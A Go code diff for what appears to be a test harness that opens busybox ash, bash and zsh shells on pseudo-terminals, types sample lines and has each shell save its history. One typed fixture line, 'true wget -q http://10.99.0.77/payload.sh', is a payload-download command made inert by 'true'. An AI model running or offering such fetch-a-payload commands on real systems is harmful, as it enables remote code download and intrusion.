@@ -5,33 +5,42 @@ import (
 	"fmt"
 	"os"
 	"os/exec"
+	"slices"
 	"syscall"
 	"time"
 
 	"golang.org/x/sys/unix"
 )
 
-// typed is what is typed into each shell. The last line has the shell itself write down
-// what it remembers.
+// typed is what is typed into each shell. Another line has the shell itself write down what
+// it remembers.
 var typed = []string{
 	"echo one; cd /proc",
 	"ls | head -3",
 	"true wget -q http://10.99.0.77/payload.sh  # with  spaces",
 	"echo $$ 'quo\"ted' \\",
 	"",
-	"history > %[1]s/history.$$.new; mv %[1]s/history.$$.new %[1]s/history.$$",
+}
+
+// writeDown is what has a shell write it down: with the times as numbers, where it has times.
+func writeDown(list, dir string) string {
+	return fmt.Sprintf("%[1]s > %[2]s/history.$$.new; mv %[2]s/history.$$.new %[2]s/history.$$", list, dir)
 }
 
 // shells starts an interactive shell of each kind that is there, on a terminal of its own.
 func (s *server) shells() error {
-	errs := []error{s.shell([]string{s.busybox, "ash", "-i"})}
+	errs := []error{s.shell("history", s.busybox, "ash", "-i")}
 	if path, err := exec.LookPath("bash"); err == nil {
-		errs = append(errs, s.shell([]string{path, "--norc", "-i"}))
+		errs = append(errs, s.shell("history", path, "--norc", "-i"))
+	}
+	if path, err := exec.LookPath("zsh"); err == nil {
+		errs = append(errs, s.shell("fc -l -t %s 1", path, "-f", "-i"))
 	}
 	return errors.Join(errs...)
 }
 
-func (s *server) shell(argv []string) error {
+// shell starts one, which lists its history with list.
+func (s *server) shell(list string, argv ...string) error {
 	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
 	if errors.Is(err, os.ErrNotExist) {
 		return fmt.Errorf("%w (devpts is not mounted)", err)
@@ -71,10 +80,7 @@ func (s *server) shell(argv []string) error {
 			}
 		}
 	}()
-	for _, line := range typed {
-		if line == typed[len(typed)-1] {
-			line = fmt.Sprintf(line, s.dir)
-		}
+	for _, line := range append(slices.Clone(typed), writeDown(list, s.dir)) {
 		if _, err := master.WriteString(line + "\n"); err != nil {
 			return err
 		}
